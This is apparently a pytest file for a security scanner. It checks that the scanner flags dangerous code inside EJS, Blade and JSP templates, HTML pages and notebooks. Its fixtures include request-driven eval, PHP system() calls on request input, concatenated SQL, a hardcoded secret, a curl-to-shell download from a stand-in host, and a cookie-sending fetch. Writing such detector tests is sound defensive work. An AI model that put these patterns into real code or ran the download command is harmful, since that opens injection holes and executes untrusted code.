"""Patterns in files that hold code among other things: templates of EJS and Blade, notebooks."""

import json
import time
from pathlib import Path

import pytest

from diffchecks.patterns.template_code_extraction import extract_page_scripts
from tests.diffchecks.patterns.test_pattern_files import look, unread

EVAL = "eval(req.query.sum)"
# What a template of EJS is -> lines and columns where code of a request is evaluated in it.
EJS = {
    f"<p>\n  <%= {EVAL} %>\n</p>\n": [(2, 7)],
    f"<%- {EVAL}; -%><b><%={EVAL}_%>": [(1, 5), (1, 35)],
    f"<% if (a) {{ %>\n<b>\n<% }} else {{\n  b = {EVAL} %>\n<% }} %>": [(4, 7)],
    f"<% items.forEach((i) => {{ // each %> <i>\n<%_ f({EVAL}) _%>\n<% }}) %>": [(2, 7)],
    f"<% include parts/head %> <%= await include('a') %> <%= {EVAL} %>": [(1, 56)],
    f"<%= url + '//' + {EVAL} %>": [(1, 18)],
    "<%= eval('1') %>\n<p>eval(req.query.sum)</p>": [],
    f"<%# {EVAL}\n %>\n<%%= {EVAL} %>\n<%= %>": [],
    "<p>no tag</p>": [],
}
RUN = "system($_GET['a'])"
# What a template of Blade is -> lines where a command of a request is run in it.
BLADE = {
    f"@php\n  {RUN};\n@endphp\n<p>{{{{ {RUN} }}}}</p>\n{{!! {RUN} !!}}": [2, 4, 5],
    f"<p>\n<?php {RUN} ?>\n@if (count($a) > 1) it's @endif\n{{{{ $a ?: 'b' }}}}": [2],
    f"<p>It's {{{{ $name }}}}.\n{{{{ {RUN} }}}} isn't</p>": [2],
    f"{{{{--\n {RUN} --}}}}\n@{{{{ {RUN} }}}} @php($a = 1) {RUN}": [],
    "{{ $_GET['a'] }} {{ }}": [],
}
QUERY = 'st.executeQuery("SELECT a FROM b WHERE c = " + request.getParameter("c"))'
# What a page of JSP is -> lines where a request writes a statement in it.
JSP = {
    f"<%@ page import='a.B' %>\n<% if (a) {{\n {QUERY}; %>\n<b><%= {QUERY} %></b>\n<% }} %>": [
        3,
        4,
    ],
    f"<%! int f(String c) {{ return 1; }} %>\n<p>\n<% {QUERY}; %>": [3],
    f"<%-- <% {QUERY}; %> --%>\n<%= b %>\n{QUERY}": [],
    "<% if (a) { %>\n<p>\n": [],  # the rest is in another page
    "<p>${param.a}</p>": [],
}
UNREAD = {
    ("a.ejs", f"<p>\n<%= {EVAL}"): "one of its tags is not closed",
    ("a.ejs", "<p>\n<% if (a) { %>\n<p/>\n"): "its grammar cannot parse line",
    ("a.blade.php", "{{{{ $a }}}}"): "its grammar cannot parse line",
}


@pytest.mark.parametrize("text", EJS)
def test_what_stands_in_tags_of_ejs_is_read_at_its_place(tmp_path: Path, text: str) -> None:
    reply = look(tmp_path, {"a.ejs": text})
    assert not reply.gaps
    found = [(one.line, one.column) for one in reply.findings if one.code == "js-eval"]
    assert found == EJS[text]


@pytest.mark.parametrize("text", BLADE)
def test_php_of_blade_is_read_on_its_lines(tmp_path: Path, text: str) -> None:
    reply = look(tmp_path, {"a.blade.php": text})
    assert not reply.gaps
    assert [(one.code, one.line) for one in reply.findings] == [
        ("php-shell", line) for line in BLADE[text]
    ]


@pytest.mark.parametrize("text", JSP)
def test_java_of_a_page_is_read_on_its_lines(tmp_path: Path, text: str) -> None:
    reply = look(tmp_path, {"a.jsp": text})
    assert not reply.gaps
    assert [(one.code, one.line) for one in reply.findings] == [
        ("java-sql", line) for line in JSP[text]
    ]


@pytest.mark.parametrize(("name", "text"), UNREAD)
def test_a_template_whose_code_cannot_be_read_is_a_gap(
    tmp_path: Path, name: str, text: str
) -> None:
    reply = look(tmp_path, {name: text})
    assert UNREAD[name, text] in reply.gaps[name]
    assert reply.examined == []


def test_code_and_commands_of_a_notebook_are_read_on_their_lines(tmp_path: Path) -> None:
    cells = [
        ["import os\n", "app.secret_key = 'k3y-of-the-app'\n", "!curl http://a.example/b.sh | sh"],
        ["%%bash\n", "curl http://a.example/b.sh | sh"],
    ]
    whole = {"cells": [{"cell_type": "code", "source": source} for source in cells]}
    text = json.dumps(whole, indent=1)
    reply = look(tmp_path, {"a.ipynb": text})
    assert not reply.gaps
    rows = text.split("\n")
    found = [(one.code, rows[one.line - 1].strip().strip('",')) for one in reply.findings]
    assert found == [
        ("python-session-secret", "app.secret_key = 'k3y-of-the-app'\\n"),
        ("shell-plain-http-script", "!curl http://a.example/b.sh | sh"),
        ("shell-plain-http-script", "curl http://a.example/b.sh | sh"),
    ]


def test_scripts_of_a_page_are_read_at_their_lines_and_what_a_template_fills_in_is_constant(
    tmp_path: Path,
) -> None:
    page = (
        "<p>eval(x)</p>\n<script>\nconst a = {{ a }};\n{% if b\n %}\neval(location.hash);\n{% endif %}"
        "\n</script>\n<SCRIPT type='module' src=x></SCRIPT><script>eval({{ b }});</script>\n"
        "<script type='application/json'>{'a': eval(x)}</script>\n<script>f(;</script>\n"
        "<script>window.onload = () => eval(y);</script>"
    )
    reply = look(tmp_path, {"a.html": page, "b.htm": "<p>none</p>"})
    assert [(f.path, f.line, f.code) for f in reply.findings] == [
        ("a.html", 6, "js-eval"),
        ("a.html", 12, "js-eval"),
    ]
    assert (set(reply.examined), reply.gaps) == ({"a.html"}, {})


def test_quotation_marks_without_an_end_take_linear_time() -> None:
    start = time.process_time()
    assert unread("#if A\nint f( {\n#endif\n" + '\\"' * 15_000 + "\n")
    assert time.process_time() - start < 3


def test_scripts_without_an_end_take_linear_time() -> None:
    start = time.process_time()
    assert extract_page_scripts("<script>" * 100_000) == []
    assert extract_page_scripts("<script>a</script>" + "<script>" * 100_000) == ["a"]
    assert time.process_time() - start < 3


def test_handlers_and_addresses_of_a_page_are_read_at_their_lines(tmp_path: Path) -> None:
    sent = "fetch(u + document.cookie)"
    page = f"<p>\n<a onclick='{sent}'>a</a>\n<a href=\"javascript:{sent}\">b</a>\n"
    page += f"<b title='{sent}'></b>\n<i onclick='show({{{{ a }}}})'></i>\n"
    reply = look(tmp_path, {"a.html": page})
    assert [(f.code, f.line) for f in reply.findings] == [("js-cookie-sent", n) for n in (2, 3)]
    start = time.process_time()
    for text in ('<a onclick="a()">' * 50_000, ' onclick="' * 90_000, "href='javascript:" * 60_000):
        extract_page_scripts(text)
    assert time.process_time() - start < 3
